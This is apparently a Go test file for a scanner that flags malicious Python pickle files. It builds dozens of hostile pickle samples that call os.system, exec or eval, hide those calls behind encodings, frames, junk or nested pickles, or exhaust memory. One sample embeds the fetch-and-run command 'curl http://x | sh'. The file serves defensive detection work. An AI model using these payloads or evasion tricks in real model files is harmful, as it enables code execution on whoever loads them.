package pickle

import (
	"encoding/base64"
	"encoding/hex"
	"errors"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/scantest"
)

const (
	mal = scan.SeverityMalicious
	sus = scan.SeveritySuspicious
)

var samples = []scantest.Sample{
	// What every scanner finds.
	{Name: "reduce", Data: cat(proto(2), system, "."), Worst: mal},
	{Name: "protocol 0", Data: cat("cos\nsystem\n(S'id'\ntR."), Worst: mal},
	{Name: "protocol 4", Data: cat(proto(4), frame(stackGlob("os", "system")+sbu("id")+"\x85R.")), Worst: mal},
	{Name: "only imported", Data: cat(proto(2), glob("os", "system"), "."), Worst: mal},
	{Name: "popped", Data: cat(proto(2), system, "0N."), Worst: mal},
	{Name: "inside a mark", Data: cat(proto(2), "(", system, "1N."), Worst: mal},
	{Name: "data", Data: cat(proto(4), frame(dict(sbu("a"), "K\x01", sbu("b"), "]\x94")+".")), Worst: scan.Info},
	{Name: "data of protocol 0", Data: cat("(dp0\nS'a'\np1\nI1\ns."), Worst: scan.Info},

	// The other ways to call.
	{Name: "inst", Data: cat("(S'id'\nios\nsystem\n."), Worst: mal},
	{Name: "obj", Data: cat("(cos\nsystem\nS'id'\no."), Worst: mal},
	{Name: "newobj", Data: cat(proto(2), glob("evil", "Class"), tuple("K\x01"), "\x81."), Worst: sus},
	{Name: "newobj ex", Data: cat(proto(4), stackGlob("evil", "Class"), ")}\x92."), Worst: sus},
	{Name: "newobj of a listed class", Data: cat(proto(2), glob("torch.nn.modules.linear", "Linear"), ")\x81", dict(sbu("training"), "\x88"), "b."), Worst: scan.Info},
	{Name: "newobj of a listed class with arguments", Data: cat(proto(2), glob("torch.nn.modules.linear", "Linear"), tuple("K\x01"), "\x81."), Worst: sus},
	{Name: "build of a function", Data: cat(proto(2), glob("numpy", "size"), dict(sbu("x"), "K\x01"), "b."), Worst: mal},
	{Name: "slots of a class", Data: cat(proto(2), glob("collections", "OrderedDict"), tuple("N", dict(sbu("x"), "K\x01")), "b."), Worst: mal},
	{Name: "state overrides a method", Data: cat(proto(2), glob("torch.nn.modules.linear", "Linear"), ")\x81", dict(sbu("__setstate__"), "K\x01"), "b."), Worst: sus},
	{Name: "state with a plain dunder key", Data: cat(proto(2), glob("torch.nn.modules.linear", "Linear"), ")\x81", dict(sbu("__pydantic_extra__"), "K\x01"), "b."), Worst: scan.Info},
	{Name: "append to a module", Data: cat(proto(2), glob("numpy", "random"), "K\x01a."), Worst: sus},
	{Name: "items of a class", Data: cat(proto(2), glob("collections", "OrderedDict"), "K\x01K\x02s."), Worst: sus},
	{Name: "items of an instance", Data: cat(proto(2), glob("collections", "OrderedDict"), ")RK\x01K\x02s."), Worst: scan.Info},
	{Name: "callable among the arguments", Data: cat(proto(2), glob("builtins", "map"), tuple(glob("os", "system"), "]"), "R."), Worst: mal},
	{Name: "unlisted callable for partial", Data: cat(proto(2), glob("functools", "partial"), tuple(glob("torch.nn.functional2", "gadget")), "R."), Worst: sus},
	{Name: "listed callable for partial", Data: cat(proto(2), glob("functools", "partial"), tuple(glob("torch.nn.functional", "relu")), "R."), Worst: scan.Info},
	{Name: "defaultdict of list", Data: cat(proto(2), glob("collections", "defaultdict"), tuple(glob("builtins", "list")), "R."), Worst: scan.Info},
	{Name: "defaultdict of exec", Data: cat(proto(2), glob("collections", "defaultdict"), tuple(glob("builtins", "exec")), "R."), Worst: mal},
	{Name: "getattr of code", Data: cat(proto(2), glob("builtins", "getattr"), tuple(glob("torch.hub", "Thing"), bu("system")), "R."), Worst: mal},
	{Name: "getattr with a computed name", Data: cat(proto(2), glob("builtins", "getattr"), tuple(glob("builtins", "str"), "N"), "R."), Worst: sus},
	{Name: "getattr of a method of an instance", Data: cat(proto(2), glob("builtins", "getattr"), tuple(glob("collections", "OrderedDict")+")R", bu("keys")), "R."), Worst: scan.Info},
	{Name: "bytes as text", Data: cat(proto(2), glob("_codecs", "encode"), tuple(bu("\u00ff"), bu("latin1")), "R."), Worst: scan.Info},
	{Name: "text through rot13", Data: cat(proto(2), glob("_codecs", "encode"), tuple(bu("flfgrz"), bu("rot13")), "R."), Worst: sus},
	{Name: "unlisted, with a command", Data: cat(proto(2), glob("anything", "go"), tuple(bu("curl http://x | sh")), "R."), Worst: mal},
	{Name: "unlisted, with a number", Data: cat(proto(2), glob("anything", "go"), tuple("K\x01"), "R."), Worst: sus},
	{Name: "unlisted name of a known library", Data: cat(proto(2), glob("torch", "something_new"), "."), Worst: scan.Low},
	{Name: "the same, called", Data: cat(proto(2), glob("torch", "something_new"), ")R."), Worst: sus},
	{Name: "persistent object called", Data: cat(proto(2), "K\x01Q)R."), Worst: sus},

	// Ways to spell a name.
	{Name: "dotted", Data: cat(proto(4), stackGlob("random", "_os.system"), "."), Worst: mal},
	{Name: "module by alias", Data: cat(proto(4), stackGlob("torch.serialization", "os"), "."), Worst: mal},
	{Name: "dunder", Data: cat(proto(4), stackGlob("numpy", "__builtins__"), "."), Worst: mal},
	{Name: "dunder method", Data: cat(proto(4), stackGlob("builtins", "eval.__call__"), "."), Worst: mal},
	{Name: "Python 2 name", Data: cat(proto(2), glob("__builtin__", "eval"), "."), Worst: mal},
	{Name: "Python 2 module", Data: cat(proto(2), glob("commands", "getoutput"), "."), Worst: mal},
	{Name: "Python 2 set", Data: cat(proto(2), glob("__builtin__", "set"), tuple("]"), "R."), Worst: scan.Info},
	{Name: "unicode escapes", Data: cat(proto(4), "V\\u006fs\nVsyst\\u0065m\n\x93."), Worst: mal},
	{Name: "string escapes", Data: cat(proto(4), "S'\\x6fs'\nS\"syste\\155\"\n\x93."), Worst: mal},
	{Name: "memoised names", Data: cat(proto(4), sbu("os"), "\x94", sbu("system"), "\x9400h\x00h\x01\x93."), Worst: mal},
	{Name: "computed name", Data: cat(proto(4), sbu("os"), "NQ\x93."), Worst: sus},
	{Name: "computed name, called", Data: cat(proto(4), sbu("os"), "NQ\x93)R."), Worst: mal},
	{Name: "extension", Data: cat(proto(2), "\x82\x01."), Worst: sus},
	{Name: "carriage returns", Data: cat("cos\r\nsystem\r\n(S'id'\r\ntR."), Worst: mal},

	// Breaks.
	{Name: "truncated", Data: cat(proto(2), system), Worst: mal, Err: scan.ErrMalformed},
	{Name: "truncated, protocol 0", Data: cat("cos\nsystem\n(S'id'\ntR"), Worst: mal, Err: scan.ErrMalformed},
	{Name: "junk after the payload", Data: cat(proto(2), system, "\xff\xff"), Worst: mal, Err: scan.ErrMalformed},
	{Name: "length beyond the end", Data: cat(proto(2), system, "X\xff\xff\xff\x7f"), Worst: mal, Err: scan.ErrMalformed},
	{Name: "missing memo", Data: cat(proto(2), system, "h\x09."), Worst: mal, Err: scan.ErrMalformed},
	{Name: "underflow", Data: cat(proto(2), system, "000."), Worst: mal, Err: scan.ErrMalformed},
	{Name: "truncated data", Data: cat(proto(4), frame(dict(sbu("a"), "K\x01")+"."))[:18], Worst: sus, Err: scan.ErrMalformed},
	{Name: "protocol 255", Data: cat("\x80\xff", system, "."), Worst: mal},
	{Name: "last line without its end", Data: cat("N0cos\nsystemX"), Worst: mal, Err: scan.ErrMalformed},

	// Frames: what a file is read as depends on how its loader reads.
	{Name: "name straddles a frame", Data: cat(proto(4), "\x95", le(8, 4), "cxyz", "os\nsystem\n."), Worst: mal},
	{Name: "stop inside a frame", Data: cat(proto(4), "\x95", le(8, 9), "N.XXXXXXX", system, "."), Worst: mal},

	// More than one pickle.
	{Name: "second pickle", Data: cat(proto(2), "N.", proto(2), system, "."), Worst: mal},
	{Name: "second pickle of protocol 0", Data: cat(proto(2), "N.", "cos\nsystem\n(S'id'\ntR."), Worst: mal},
	{Name: "behind junk", Data: cat(proto(2), "N.", strings.Repeat("\x00junk", 100), proto(2), system, "."), Worst: mal},
	{Name: "behind junk, protocol 0", Data: cat(proto(2), "N.", strings.Repeat("\x00junk", 100), "cos\nsystem\n(S'id'\ntR."), Worst: mal},
	{Name: "INST in a broken tail", Data: cat(proto(2), "cic\nio.st\n"), Worst: mal, Err: scan.ErrMalformed},
	{Name: "INST behind junk", Data: cat(proto(2), "N.", strings.Repeat("\x00junk", 100), "(S'id'\nios\nsystem\n."), Worst: mal},
	{Name: "behind a break", Data: cat(proto(2), "NNN\xff", proto(2), system, "."), Worst: mal, Err: scan.ErrMalformed},
	{Name: "junk behind data", Data: cat(proto(2), "]K\x01a.", strings.Repeat("some text\n\x00\x80\x02\xff", 1000)), Worst: scan.Info},
	{Name: "behind a raw array", Data: cat(proto(4), "(", numpyArray("f8", "K\x02\x85"), "0123456789abcdef", system, "t."), Worst: mal},
	{Name: "raw array", Data: cat(proto(4), "]", numpyArray("f8", "K\x02\x85"), "0123456789abcdefa."), Worst: scan.Info},
	{Name: "aligned raw array", Data: cat(proto(4), "]", numpyArray("f8", "K\x02\x85", sbu("numpy_array_alignment_bytes"), "K\x10"), "\x03\xff\xff\xff0123456789abcdefa."), Worst: scan.Info},
	{Name: "opcodes as a raw array", Data: cat(proto(4), "]", numpyArray("i1", "K\x14\x85"), "cos\nsystem\n(S'id'\ntR", "a."), Worst: mal},
	{Name: "raw array of unknown size", Data: cat(proto(4), "]", numpyArray("q17", "K\x02\x85"), "0123456789abcdefa."), Worst: sus, Err: scan.ErrMalformed},
	{Name: "array of objects", Data: cat(proto(4), "]", numpyArray("O8", "K\x02\x85"), proto(5), "]", system, "a.a."), Worst: mal},
	{Name: "array of harmless objects", Data: cat(proto(4), "]", numpyArray("O8", "K\x02\x85"), proto(5), "]K\x01a.a."), Worst: scan.Info},

	// Pickles in pickles.
	{Name: "raw constant", Data: cat(proto(3), bb(string(cat(proto(2), system, "."))), "."), Worst: sus},
	{Name: "base64 constant", Data: cat(proto(3), bu(base64.StdEncoding.EncodeToString(cat(proto(2), system, "."))), "."), Worst: sus},
	{Name: "hexadecimal constant", Data: cat(proto(3), bu(hex.EncodeToString(cat(proto(2), system, "."))), "."), Worst: sus},
	{Name: "hexadecimal digest", Data: cat(proto(3), bu("8004955bd3a4d51e2ca0ff6e9e1f2a3b4c5d6e7f"), "."), Worst: scan.Info},
	{Name: "getattr that is kept", Data: cat(proto(2), glob("builtins", "getattr"), "."), Worst: mal},
	{Name: "harmless pickle as a constant", Data: cat(proto(3), bb(string(cat(proto(2), "]K\x01a."))), "."), Worst: scan.Info},
	{Name: "loads", Data: cat(proto(3), glob("pickle", "loads"), tuple(bb(string(cat(proto(2), system, ".")))), "R."), Worst: mal},

	// Exhaustion.
	{Name: "bytearray of a size", Data: cat(proto(2), glob("builtins", "bytearray"), tuple("\x8a\x05"+le(5, 10_000_000_000)), "R."), Worst: sus},
	{Name: "bytearray of bytes", Data: cat(proto(3), glob("builtins", "bytearray"), tuple(bb("abc")), "R."), Worst: scan.Info},
	{Name: "zeros of a shape", Data: cat(proto(2), glob("numpy", "zeros"), tuple(tuple(num(1<<20), num(1<<20))), "R."), Worst: sus},
	{Name: "doubling", Data: cat(proto(2), "]", strings.Repeat("q\x00(h\x00h\x00l", 40), "."), Worst: sus},
	{Name: "huge integer", Data: cat(proto(2), "\x8b", le(4, 100_000), strings.Repeat("\x01", 100_000), "."), Worst: sus},
}

func TestScanner(t *testing.T) { scantest.Run(t, New(), samples) }

func TestForeign(t *testing.T) {
	s := New()
	for _, text := range []string{
		"I1\n.", "cool model\nsome text\n", "N", ".", "{\"a\": 1}\n", "(cpu) is fine\n", "Paris\nis\n",
		"]\n", "cos\nsin\ntan\n", "0.5,0.25\n", "\x80", "\x80\x04", "\x80\x04\xff", "import os\nos.system('id')\n",
		"PK\x03\x04\n\x00\x00", "F0\n", "cmodel\nname\n",
	} {
		r, err := scantest.Scan(s, "README.md", []byte(text))
		if !errors.Is(err, scan.ErrForeign) || len(r.Findings)+len(r.Imports) > 0 {
			t.Errorf("%q: %v, %+v, %+v; want ErrForeign and nothing else", text, err, r.Imports, r.Findings)
		}
	}
}

func TestImportsAreSpelledAsInTheFile(t *testing.T) {
	data := cat(proto(2), glob("__builtin__", "set"), tuple("]"), "R", glob("commands", "getoutput"), ".")
	r, err := scantest.Scan(New(), "x", data)
	if err != nil {
		t.Fatal(err)
	}
	want := []scan.Import{
		{Module: "__builtin__", Name: "set", Offset: 2},
		{Module: "__builtin__", Name: "set", Offset: 22, Called: true},
		{Module: "commands", Name: "getoutput", Offset: 23},
	}
	if len(r.Imports) != len(want) {
		t.Fatalf("imports = %+v, want %+v", r.Imports, want)
	}
	for i := range want {
		if r.Imports[i] != want[i] {
			t.Errorf("import %d = %+v, want %+v", i, r.Imports[i], want[i])
		}
	}
}

func TestMembersOfLoaders(t *testing.T) {
	inner := string(cat(proto(2), "]K\x01a."))
	for name, data := range map[string][]byte{
		"bytes": cat(proto(3), glob("torch.storage", "_load_from_bytes"), tuple(bb(inner)), "R."),
		"text": cat(proto(2), glob("torch.storage", "_load_from_bytes"),
			tuple(glob("_codecs", "encode")+tuple(bu("\u0080\x02]K\x01a."), bu("latin1"))+"R"), "R."),
	} {
		r, err := scantest.Scan(New(), "x", data)
		if err != nil || len(r.Members) != 1 || string(r.Members[0].Data) != inner || r.Worst() != scan.Info {
			t.Errorf("%s: %v, members %q, findings %+v", name, err, r.Members, r.Findings)
		}
	}
}

// legacy spells torch's older format with one storage of four floats.
func legacy(keys string, raw string) []byte {
	return cat(proto(2)+"\x8a\x0a"+string(torchMagic[:])+".", proto(2)+"M\xe9\x03.", proto(2)+"}.",
		proto(2)+"("+bu("storage")+glob("torch", "FloatStorage")+bu("0")+bu("cpu")+"K\x04NtQ.",
		proto(2)+"]("+keys+"e.", le(8, 4), raw)
}

func TestTorchStoragesAreNoPickles(t *testing.T) {
	raw := string(cat(proto(2), glob("os", "system"), ".XX"))
	for _, c := range []struct {
		keys  string
		raw   string
		worst scan.Severity
	}{
		{bu("0"), raw, scan.Info},
		{bu("0"), raw + system, mal}, // behind the storage
		{bu("1"), raw, mal},          // not as the pickles say
	} {
		r, err := scantest.Scan(New(), "x", legacy(c.keys, c.raw))
		if r.Worst() != c.worst {
			t.Errorf("%q: %v, %v, want %v: %+v", c.keys, err, r.Worst(), c.worst, r.Findings)
		}
	}
}

func TestSearchIsLinear(t *testing.T) {
	// Beginnings that lead nowhere must not make the search start over.
	data := cat(proto(2), "N.", strings.Repeat("cos\nx\n\xff", 300_000))
	if _, err := scantest.Scan(New(), "x", data); err != nil {
		t.Error(err)
	}
}

func TestStackLimit(t *testing.T) {
	for _, c := range []struct {
		n   int
		err error
	}{{maxStack - 1, nil}, {maxStack, nil}, {maxStack + 1, scan.ErrLimit}} {
		data := cat(proto(2), strings.Repeat("N", c.n), ".")
		if _, err := scantest.Scan(New(), "x", data); !errors.Is(err, c.err) {
			t.Errorf("%d values: %v, want %v", c.n, err, c.err)
		}
	}
}

func FuzzPickle(f *testing.F) {
	for _, s := range samples {
		if len(s.Data) < 1<<10 {
			f.Add(s.Data)
		}
	}
	s := New()
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, s, data) })
}
